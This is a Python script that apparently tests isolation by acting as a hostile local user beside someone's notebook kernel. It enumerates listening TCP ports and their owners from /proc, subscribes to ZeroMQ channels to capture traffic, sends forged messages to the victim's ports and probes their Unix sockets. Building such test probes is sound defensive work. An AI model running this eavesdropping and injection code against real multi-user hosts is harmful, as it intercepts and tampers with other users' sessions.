"""What a hostile user runs beside somebody's kernel: read from and speak to whatever listens.

eavesdropper.py ROUNDS UID: prints one line of JSON with what came of it. Needs pyzmq.
"""

import contextlib
import json
import socket
import sys
import time
from pathlib import Path

import zmq

LISTENS = "0A"
PATIENCE = 0.4  # seconds for a line of traffic; the victim prints one every 0.05


def ports():
    """Every TCP port of this host that somebody listens on, and the uid of who does."""
    found = {}
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENS:
                found[int(fields[1].rsplit(":", 1)[1], 16)] = int(fields[7])
    return found


def subscribed(context, targets):
    """The bytes that subscriptions to all of these bring."""
    poller, sockets = zmq.Poller(), []
    for port in targets:
        heard = context.socket(zmq.SUB)
        heard.linger = 0
        heard.setsockopt(zmq.SUBSCRIBE, b"")
        heard.connect(f"tcp://127.0.0.1:{port}")
        poller.register(heard, zmq.POLLIN)
        sockets.append(heard)
    total, deadline = 0, time.monotonic() + PATIENCE
    while time.monotonic() < deadline:
        for heard, _event in poller.poll(50):
            total += sum(map(len, heard.recv_multipart()))
    for heard in sockets:
        heard.close()
    return total


def forged(context, targets):
    """Say something to all of these, as a forked process of the kernel would."""
    for port in targets:
        speaker = context.socket(zmq.PUSH)
        speaker.linger = 200
        speaker.connect(f"tcp://127.0.0.1:{port}")
        with contextlib.suppress(zmq.ZMQError):
            speaker.send_multipart([b"0" * 16, b"FORGED BY MALLORY"], zmq.NOBLOCK)
        speaker.close()


def sockets_of_others(uid):
    """The named Unix sockets below directories of that user that let us connect."""
    opened = []
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split(None, 7)
        if len(fields) == 8 and f"-{uid}/" in fields[7]:
            with socket.socket(socket.AF_UNIX) as attempt, contextlib.suppress(OSError):
                attempt.connect(fields[7])
                opened.append(fields[7])
    return opened


def main():
    rounds, uid = int(sys.argv[1]), int(sys.argv[2])
    context = zmq.Context()
    seen, heard = set(), []
    for _each in range(rounds):
        found = ports()
        seen.update(port for port, owner in found.items() if owner == uid)
        heard.append(subscribed(context, found))
        forged(context, [port for port, owner in found.items() if owner == uid])
    answer = {
        "ports": sorted(seen),
        "bytes": sum(heard),
        "rounds": rounds,
        "silent": heard.count(0),
    }
    print(json.dumps({**answer, "sockets": sockets_of_others(uid)}))


main()
